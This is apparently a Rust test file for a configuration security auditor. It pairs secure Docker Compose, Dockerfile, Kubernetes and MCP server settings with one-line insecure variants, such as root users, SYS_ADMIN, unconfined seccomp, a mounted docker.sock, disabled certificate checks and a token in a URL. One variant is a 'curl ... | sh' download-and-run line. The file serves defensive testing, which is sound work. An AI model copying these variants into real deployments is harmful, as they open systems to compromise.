//! Pairs of trees that differ in one line, and in one verdict: the line is what the check looks at, and nothing else is.
#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests make trees")]

use std::collections::BTreeSet;
use std::fs;

use plimsoll::{Request, audit};

const DIGEST: &str = "sha256:3b7f3d1c2a9e4f5b6c7d8e9f0a1b2c3d4e5f60718293a4b5c6d7e8f901234567";

const COMPOSE: &str = "\
services:
  orders:
    image: registry.internal/orders:1.2.0@DIGEST
    user: \"10001:10001\"
    read_only: true
    cap_drop: [ALL]
    cap_add: []
    privileged: false
    security_opt: [\"no-new-privileges:true\", \"seccomp:./calls.json\"]
    mem_limit: 256m
    cpus: 0.5
    pids_limit: 64
    devices: []
    ipc: private
    networks: [data]
    ports: [\"127.0.0.1:8000:8000\"]
    tmpfs: [\"/tmp:noexec,nosuid,size=16m\"]
    environment:
      TZ: UTC
    volumes:
      - ./data:/data:ro
networks:
  data:
    internal: true
";

const DOCKERFILE: &str = "\
FROM python:3.13.9-slim@DIGEST
ENV TZ=UTC
COPY server.py /app/
RUN pip install --no-cache-dir mcp==1.23.0
USER 10001:10001
CMD [\"python\", \"/app/server.py\"]
";

const CLIENT: &str = "\
{
  \"mcpServers\": {
    \"orders\": {
      \"command\": \"docker\",
      \"args\": [\"compose\", \"run\", \"--rm\", \"-T\", \"orders\"]
    }
  }
}
";

const SERVER: &str = "from mcp.server.fastmcp import FastMCP\n\nmcp = FastMCP(\"orders\")\nmcp.run()\n";
const CALLS: &str = "{\"defaultAction\": \"SCMP_ACT_ERRNO\", \"syscalls\": [{\"names\": [\"read\"]}]}\n";

/// A pod with everything that confines it, and what stands around it.
const CLUSTER: &str = include_str!("data/cluster.yaml");

const REMOTE: &str = "\
import os
from hmac import compare_digest

import httpx
from mcp.server.fastmcp import FastMCP
from orders.tokens import Verifier

mcp = FastMCP(\"orders\", host=\"127.0.0.1\", token_verifier=Verifier())


@mcp.tool()
def ping() -> str:
    \"\"\"Ask the service how it is.\"\"\"
    return httpx.get(\"https://orders.internal/health\", verify=True).text


def is_ours(token: str) -> bool:
    return compare_digest(token, os.environ[\"API_TOKEN\"])


mcp.run(transport=\"streamable-http\")
";

const ENTRIES: &str = "\
{
  \"mcpServers\": {
    \"crm\": {\"type\": \"http\", \"url\": \"https://crm.example.com/mcp\"},
    \"orders\": {
      \"command\": \"docker\",
      \"args\": [\"run\", \"--rm\", \"-i\", \"-e\", \"NODE_TLS_REJECT_UNAUTHORIZED=1\", \"registry.internal/orders:1.2.0@DIGEST\"]
    }
  }
}
";

/// A tree of files, with the name that pairs call it by.
const TREES: &[(&str, &[(&str, &str)])] = &[
    (
        "service",
        &[
            ("compose.yaml", COMPOSE),
            ("Dockerfile", DOCKERFILE),
            (".mcp.json", CLIENT),
            ("server.py", SERVER),
            ("calls.json", CALLS),
        ],
    ),
    ("pod", &[("k8s/all.yaml", CLUSTER), ("server.py", SERVER)]),
    ("web", &[("requirements.txt", "mcp==1.30.0\n"), ("server.py", REMOTE), (".mcp.json", ENTRIES)]),
];

/// Check, file, what stands there, what stands there instead.
const PAIRS: &[(&str, &str, &str, &str)] = &[
    ("runs-as-root", "compose.yaml", "user: \"10001:10001\"", "user: \"0:0\""),
    ("writable-root", "compose.yaml", "read_only: true", "read_only: false"),
    ("capabilities-not-dropped", "compose.yaml", "cap_drop: [ALL]", "cap_drop: [NET_RAW]"),
    ("dangerous-capability", "compose.yaml", "cap_add: []", "cap_add: [SYS_ADMIN]"),
    ("unneeded-capability", "compose.yaml", "cap_add: []", "cap_add: [NET_BIND_SERVICE]"),
    ("privilege-escalation-allowed", "compose.yaml", "no-new-privileges:true", "no-new-privileges:false"),
    ("syscall-filter-off", "compose.yaml", "seccomp:./calls.json", "seccomp:unconfined"),
    ("no-memory-limit", "compose.yaml", "mem_limit: 256m", "mem_limit: 0"),
    ("no-cpu-limit", "compose.yaml", "cpus: 0.5", "cpus: 0"),
    ("no-process-limit", "compose.yaml", "pids_limit: 64", "pids_limit: -1"),
    ("host-device", "compose.yaml", "devices: []", "devices: [/dev/mem]"),
    ("host-namespace", "compose.yaml", "ipc: private", "ipc: host"),
    ("unrestricted-egress", "compose.yaml", "internal: true", "internal: false"),
    ("published-on-all-interfaces", "compose.yaml", "127.0.0.1:8000:8000", "8000:8000"),
    ("exec-tmpfs", "compose.yaml", "/tmp:noexec,", "/tmp:exec,"),
    ("secret-in-environment-block", "compose.yaml", "TZ: UTC", "DB_PASSWORD: ${DB_PASSWORD}"),
    ("container-socket-mounted", "compose.yaml", "./data:/data:ro", "/run/docker.sock:/data:ro"),
    ("broad-mount", "compose.yaml", "./data:/data:ro", "/etc:/data:ro"),
    ("writable-mount", "compose.yaml", "./data:/data:ro", "./data:/data"),
    ("shared-propagation", "compose.yaml", "./data:/data:ro", "./data:/data:ro,rshared"),
    ("image-without-digest", "compose.yaml", "orders:1.2.0@DIGEST", "orders:1.2.0"),
    ("image-without-digest", "Dockerfile", "slim@DIGEST", "slim"),
    ("secret-in-image-layer", "Dockerfile", "ENV TZ=UTC", "ARG DB_PASSWORD"),
    ("unchecked-download", "Dockerfile", "COPY server.py /app/", "ADD https://a.example/server.py /app/"),
    (
        "kernel-protection-off",
        "compose.yaml",
        "\"seccomp:./calls.json\"",
        "\"seccomp:./calls.json\", \"apparmor:unconfined\"",
    ),
    ("secret-in-image-layer", "Dockerfile", "COPY server.py /app/", "COPY server.py .env.local /app/"),
    (
        "download-and-run",
        "Dockerfile",
        "RUN pip install --no-cache-dir mcp==1.23.0",
        "RUN curl -s https://a.example/x | sh",
    ),
];

/// The same for a pod and what stands around it.
const POD_PAIRS: &[(&str, &str, &str, &str)] = &[
    ("runs-as-root", CLUSTER_FILE, "runAsUser: 10001", "runAsUser: 0"),
    ("syscall-filter-missing", CLUSTER_FILE, "seccompProfile: {type: RuntimeDefault}", "seccompProfile: {}"),
    (
        "syscall-filter-off",
        CLUSTER_FILE,
        "seccompProfile: {type: RuntimeDefault}",
        "seccompProfile: {type: Unconfined}",
    ),
    (
        "kernel-protection-off",
        CLUSTER_FILE,
        "appArmorProfile: {type: RuntimeDefault}",
        "appArmorProfile: {type: Unconfined}",
    ),
    ("writable-root", CLUSTER_FILE, "readOnlyRootFilesystem: true", "readOnlyRootFilesystem: false"),
    ("privilege-escalation-allowed", CLUSTER_FILE, "allowPrivilegeEscalation: false", "allowPrivilegeEscalation: true"),
    ("capabilities-not-dropped", CLUSTER_FILE, "drop: [ALL]", "drop: [NET_RAW]"),
    ("dangerous-capability", CLUSTER_FILE, "add: []", "add: [SYS_ADMIN]"),
    ("unneeded-capability", CLUSTER_FILE, "add: []", "add: [NET_BIND_SERVICE]"),
    ("no-memory-limit", CLUSTER_FILE, "{memory: 256Mi, cpu: 500m}", "{cpu: 500m}"),
    ("no-cpu-limit", CLUSTER_FILE, "{memory: 256Mi, cpu: 500m}", "{memory: 256Mi}"),
    ("host-namespace", CLUSTER_FILE, "hostPID: false", "hostPID: true"),
    ("service-account-token-mounted", CLUSTER_FILE, "ServiceAccountToken: false", "ServiceAccountToken: true"),
    ("shared-service-account", CLUSTER_FILE, "serviceAccountName: billing", "serviceAccountName: orders"),
    ("wide-service-account", CLUSTER_FILE, "resources: [configmaps]", "resources: [secrets]"),
    ("unrestricted-egress", CLUSTER_FILE, "policyTypes: [Ingress, Egress]", "policyTypes: [Ingress]"),
    ("container-socket-mounted", CLUSTER_FILE, "path: /srv/orders", "path: /run/docker.sock"),
    ("broad-mount", CLUSTER_FILE, "path: /srv/orders", "path: /etc"),
    ("writable-mount", CLUSTER_FILE, "mountPath: /data, readOnly: true", "mountPath: /data"),
    ("image-without-digest", CLUSTER_FILE, "orders:1.2.0@DIGEST", "orders:1.2.0"),
    ("published-on-all-interfaces", CLUSTER_FILE, "type: ClusterIP", "type: LoadBalancer"),
];
const CLUSTER_FILE: &str = "k8s/all.yaml";

/// The same for a server that is reached over HTTP, and for entries that reach one.
const WEB_PAIRS: &[(&str, &str, &str, &str)] = &[
    ("no-authentication", "server.py", ", token_verifier=Verifier()", ""),
    ("wildcard-bind", "server.py", "host=\"127.0.0.1\"", "host=\"0.0.0.0\""),
    ("certificate-checks-off", "server.py", "verify=True", "verify=False"),
    (
        "timing-unsafe-comparison",
        "server.py",
        "compare_digest(token, os.environ[\"API_TOKEN\"])",
        "token == os.environ[\"API_TOKEN\"]",
    ),
    ("deprecated-transport", "server.py", "\"streamable-http\"", "\"sse\""),
    ("plaintext-transport", ".mcp.json", "https://crm.example.com/mcp", "http://crm.example.com/mcp"),
    (
        "token-in-query",
        ".mcp.json",
        "https://crm.example.com/mcp",
        "https://crm.example.com/mcp?api_key=q8Zr7Lw2Xk9Tn4Vb6Ym1Pd",
    ),
    ("certificate-checks-off-by-setting", ".mcp.json", "UNAUTHORIZED=1", "UNAUTHORIZED=0"),
];

/// Pairs whose line is looked at by several checks, since one thing follows from the other.
const SEVERAL: &[(&[&str], &str, &str, &str)] = &[
    (&["privileged", "syscall-filter-missing"], "compose.yaml", "privileged: false", "privileged: true"),
    (&["floating-image", "image-without-digest"], "compose.yaml", "orders:1.2.0@DIGEST", "orders:latest"),
    (
        &["no-runtime-boundary", "unrestricted-egress"],
        ".mcp.json",
        "[\"compose\", \"run\", \"--rm\",",
        "[\"context\",\"ls\",",
    ),
];

fn failing(tree: &str, change: Option<(&str, &str, &str)>) -> BTreeSet<String> {
    let folder = tempfile::tempdir().unwrap();
    let (_, files) = TREES.iter().find(|(name, _)| *name == tree).unwrap();
    for (path, text) in *files {
        let text = match change.filter(|(file, ..)| file == path) {
            Some((_, old, new)) => {
                assert_eq!(text.matches(old).count(), 1, "{old} stands once in {path}");
                text.replace(old, new)
            }
            None => text.to_string(),
        };
        fs::create_dir_all(folder.path().join(path).parent().unwrap()).unwrap();
        fs::write(folder.path().join(path), text.replace("DIGEST", DIGEST)).unwrap();
    }
    let request = Request { today: "2026-11-21".into(), threads: Some(1), ..Request::new(folder.path()) };
    let report = audit(&request).unwrap();
    report.assessment.findings.iter().map(|finding| finding.check.clone()).collect()
}

/// What does not come out as it should, pair by pair.
fn wrong<'p>(tree: &str, pairs: impl Iterator<Item = (Vec<&'p str>, &'p str, &'p str, &'p str)>) -> Vec<String> {
    let base = failing(tree, None);
    let turned_otherwise = |(checks, file, old, new): (Vec<&str>, &str, &str, &str)| {
        let after = failing(tree, Some((file, old, new)));
        let turned: Vec<&str> = base.symmetric_difference(&after).map(String::as_str).collect();
        (turned != checks).then(|| format!("{old} -> {new} in {file}: turned {turned:?} instead of {checks:?}"))
    };
    pairs.filter_map(turned_otherwise).collect()
}

#[test]
fn one_line_turns_one_verdict() {
    let several = SEVERAL.iter().map(|(checks, file, old, new)| (checks.to_vec(), *file, *old, *new));
    let mut found = wrong("service", several);
    for (tree, pairs) in [("service", PAIRS), ("pod", POD_PAIRS), ("web", WEB_PAIRS)] {
        found.extend(wrong(tree, pairs.iter().map(|(check, file, old, new)| (vec![*check], *file, *old, *new))));
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
}
